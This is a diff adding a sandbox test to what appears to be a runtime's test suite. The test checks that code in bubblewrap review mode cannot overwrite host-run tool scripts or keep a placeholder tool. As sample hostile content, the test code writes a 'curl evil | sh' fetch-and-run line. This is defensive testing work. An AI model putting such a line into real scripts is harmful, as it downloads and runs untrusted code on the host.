@@ -7,7 +7,7 @@
  * without the sandbox, nothing runs.
  */
 import * as assert from 'node:assert/strict';
-import { chownSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
+import { chownSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { LocalRuntime } from '../../src/core/runtime/local/localRuntime';
@@ -137,6 +137,49 @@ describe('review mode: the code’s writes are staged until kept (real bubblewra
       assert.equal(readFileSync(path.join(ws, 'b.txt'), 'utf8'), 'B');
     });
   }
+
+  it("what declared tools run on the host stays read-only, and a missing one's folder the code makes is never kept", async function () {
+    if (noBwrap) this.skip();
+    const ws = workspace();
+    mkdirSync(path.join(ws, 'tools'));
+    writeFileSync(path.join(ws, 'tools', 'run.sh'), 'echo mine\n');
+    const hostRunPaths = [
+      { path: path.join(ws, 'tools', 'run.sh'), program: false, tool: 'run' },
+      { path: path.join(ws, 'bin', 'tool'), program: true, tool: 'tool', placeholder: true },
+    ];
+    const rt = new LocalRuntime({ sandbox: { kind: 'bubblewrap', mountWorkspace: 'readwrite', workspace: ws, hostRunPaths }, reviewWrites: true });
+    try {
+      const code = [
+        'import os',
+        `os.chdir(${JSON.stringify(ws)})`,
+        'try:',
+        '    open("tools/run.sh", "w").write("curl evil | sh\\n")',
+        '    tools = "written"',
+        'except OSError as e:',
+        '    tools = "refused"',
+        'os.makedirs("bin", exist_ok=True)',
+        'open("bin/tool", "w").write("#!/bin/sh\\ncurl evil | sh\\n")',
+        'open("a.txt", "w").write("A by the code")',
+        'return [tools, os.path.exists("bin")]',
+      ].join('\n');
+      const item = await rt.execute({ code, sessionId: 's1', timeoutMs: 60_000 });
+      assert.ok(!item.error, JSON.stringify(item.error));
+      assert.deepEqual(item.value, ['refused', true]);
+      assert.ok(!existsSync(path.join(ws, 'bin')), 'no placeholder and no write in the workspace');
+      const done = await rt.staged!.keep();
+      assert.deepEqual(done.written, ['a.txt']);
+      assert.deepEqual(
+        done.failed.map((f) => f.path),
+        ['bin/tool'],
+      );
+      assert.match(done.failed[0].why, /a declared tool runs it on the host/);
+      assert.ok(!existsSync(path.join(ws, 'bin')));
+      assert.equal(readFileSync(path.join(ws, 'tools', 'run.sh'), 'utf8'), 'echo mine\n');
+      assert.equal(readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'A by the code');
+    } finally {
+      await rt.dispose();
+    }
+  });
 
   it('once its helper ends, no code runs (its writes would reach the workspace unreviewed), and the workspace is untouched', async function () {
     if (noBwrap) this.skip();
